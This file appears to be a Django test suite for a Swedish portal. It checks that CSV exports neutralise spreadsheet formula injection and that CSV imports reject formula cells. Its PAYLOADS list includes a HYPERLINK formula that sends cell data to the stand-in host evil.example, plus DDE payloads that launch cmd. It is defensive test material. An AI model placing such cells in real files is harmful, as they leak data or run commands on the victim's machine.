"""Formula-safe CSV: no cell of any CSV the portal writes can run as a spreadsheet formula.

Every URL pattern whose path ends in `.csv` (found through the URL resolver, so a new export
is covered without a new test) is fetched as staff, with data that starts with each character
spreadsheets read as a formula: an organisation's name (public register) and a status update's
narrative (staff's exports, plain and Excel). Before lov_portal.core.csv every one of them came
out unescaped (issue 15).
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from agreements.models import AgreementVersion
from agreements.services import signature_create
from commitments.models import Commitment
from lov_portal.core.csv import FORMULA_PREFIXES, formula_cell, safe_cell, to_text
from tests.commitments.factories import StatusUpdateFactory
from tests.organisations.factories import OrganisationFactory
from tests.permissions import make_staff_with_mfa
from tests.urlwalk import all_endpoints

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&D2,"Klicka här")'
PAYLOADS = [HYPERLINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
CSV_ENDPOINTS = [e for e in all_endpoints(languages=["sv"]) if e.path.endswith(".csv")]


def _cells(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8-sig")
    first = text.split("\n", 1)[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.fixture
def hostile_data(lov):
    version = AgreementVersion.objects.get(agreement=lov, is_current=True)
    for n, payload in enumerate(PAYLOADS):
        organisation = OrganisationFactory(name=payload, description=payload)
        signature_create(organisation=organisation, version=version, signer_name=f"Per {n}")
    for commitment, payload in zip(Commitment.objects.all(), PAYLOADS, strict=False):
        StatusUpdateFactory(commitment=commitment, narrative=payload)


def test_the_walk_finds_every_csv_export():
    names = {e.name for e in CSV_ENDPOINTS}
    assert {"register_csv", "commitments_export:csv", "commitments_export:csv_excel"} <= names


@pytest.mark.parametrize("endpoint", CSV_ENDPOINTS, ids=[e.name for e in CSV_ENDPOINTS])
def test_no_csv_export_writes_a_cell_a_spreadsheet_would_run(client, hostile_data, endpoint):
    client.force_login(make_staff_with_mfa())
    response = client.get(endpoint.path)
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [cell for row in _cells(body) for cell in row]
    assert not [cell for cell in cells if formula_cell(cell)]
    # The data is still there, neutralised the OWASP way (an apostrophe first).
    found = [payload for payload in PAYLOADS if "'" + payload in cells]
    assert found, f"{endpoint.path}: none of the hostile values came out at all"


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_formula_prefix_is_neutralised_and_numbers_are_kept(prefix):
    assert safe_cell(prefix + "1") == "'" + prefix + "1"
    assert safe_cell("Förening =1") == "Förening =1"
    assert safe_cell(-5) == -5
    assert safe_cell(None) == ""
    text = to_text([["a", prefix + "x"]], excel=True)
    assert text.startswith("\ufeff") and "'" + prefix + "x" in text


def _import(client, rows: list[list[str]]):
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    upload = SimpleUploadedFile("a.csv", buffer.getvalue().encode("utf-8"), "text/csv")
    return client.post(reverse("commitments:import"), {"file": upload})


@pytest.fixture
def staff_client(client, lov):
    client.force_login(make_staff_with_mfa())
    return client


def _export_rows(client) -> list[list[str]]:
    return _cells(client.get(reverse("commitments_export:csv")).content)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_import_refuses_a_formula_cell_and_says_which_row(staff_client, payload):
    rows = _export_rows(staff_client)
    rows[2][5], rows[2][6], rows[2][7] = "Pågår", "2026-02-01", payload
    response = _import(staff_client, rows)
    assert response.status_code == 400
    errors = {e.line: e.message for e in response.context["result"].errors}
    assert set(errors) == {3}
    assert "beskrivning" in errors[3] and "formel" in errors[3]


def test_an_exported_neutralised_cell_imports_as_what_was_written(staff_client):
    from commitments.models import StatusUpdate

    commitment = Commitment.objects.order_by("principle__order", "order", "pk").first()
    StatusUpdateFactory(
        commitment=commitment, status=commitment.status, narrative="- en punkt i en lista"
    )
    rows = _export_rows(staff_client)
    assert rows[1][7] == "'- en punkt i en lista"
    response = _import(staff_client, rows)
    assert response.status_code == 200
    assert response.context["result"].changes == []
    assert StatusUpdate.objects.count() == 1


@pytest.mark.parametrize(
    ("column", "value", "words"),
    [
        (0, "²", "²"),
        (0, "١٢", "١٢"),
        (0, "9" * 40, "okänt"),
        (0, "-1", "formel"),
    ],
    ids=["superscript-two", "arabic-digits", "huge", "negative"],
)
def test_odd_cells_in_the_import_are_form_errors_not_server_errors(
    staff_client, column, value, words
):
    rows = _export_rows(staff_client)
    rows[1][5], rows[1][6], rows[1][7] = "Pågår", "2026-02-01", "Bra"
    rows[1][column] = value
    response = _import(staff_client, rows)
    assert response.status_code == 400
    errors = {e.line: e.message for e in response.context["result"].errors}
    assert set(errors) == {2}
    assert words in errors[2]


@pytest.mark.parametrize(("column", "value"), [(7, "Arbetet\x00pågår"), (6, "2026-02-01\x00")])
def test_a_nul_anywhere_in_the_import_refuses_the_file_with_a_message(staff_client, column, value):
    # A NUL byte makes the file binary to the upload policy (lov_portal.core.uploads): the whole
    # file is refused with a form error before any row is read, never a server error.
    rows = _export_rows(staff_client)
    rows[1][column] = value
    response = _import(staff_client, rows)
    assert response.status_code in (200, 400)
    assert response.context["form"].errors["file"]
